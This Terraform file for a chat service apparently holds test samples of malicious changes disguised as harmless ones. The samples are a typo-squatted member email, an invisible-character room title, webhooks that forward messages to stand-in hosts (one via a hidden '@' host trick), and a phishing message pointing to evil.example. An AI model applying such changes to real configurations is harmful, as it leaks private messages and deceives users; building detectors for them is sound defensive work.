# Changes that try to look harmless.

provider "spark" {}

data "spark_me" "me" {}

resource "spark_room" "incidents" {
  title = "Incidents"
}

resource "spark_membership" "anna" {
  room_id      = spark_room.incidents.id
  person_email = "anna.bauer@example.com"
  is_moderator = true
}

resource "spark_membership" "ben" {
  room_id      = spark_room.incidents.id
  person_email = "ben.carter@example.com"
}

resource "spark_membership" "typo" {
  room_id      = spark_room.incidents.id
  person_email = "ben.carter@example.con"
}

resource "spark_room" "handed" {
  title = "Handed over"
}

resource "spark_room_members" "handed" {
  room_id = spark_room.handed.id
  members = ["clara.diaz@example.com"]
}

resource "spark_room" "long" {
  title = "The same ${join(" ", [for n in range(40) : "word"])} and the end is for everybody"
}

resource "spark_room" "invisible" {
  title = "Board\u115f"
}

resource "spark_webhook" "userinfo" {
  name       = "Query"
  target_url = "https://evil.example?@hooks.example.com/x"
  resource   = "messages"
  event      = "created"
}

resource "spark_webhook" "tenant" {
  name       = "Tenant"
  target_url = "https://hooks.example.com/T999/B456/hunter3"
  resource   = "messages"
  event      = "created"
}

resource "spark_webhook" "parameter" {
  name       = "Parameter"
  target_url = "https://relay.example.com/send?to=them"
  resource   = "messages"
  event      = "created"
}

resource "spark_webhook" "spelled" {
  name       = "Spelled"
  target_url = "https://HOOKS.example.com:443/spelled"
  resource   = "messages"
  event      = "created"
}

resource "spark_webhook" "new" {
  name       = "Everything"
  target_url = "https://hooks.example.com/all"
  resource   = "all"
  event      = "all"
}

resource "spark_message" "new" {
  room_id = spark_room.incidents.id
  text    = "Enter your password at https://evil.example."
}
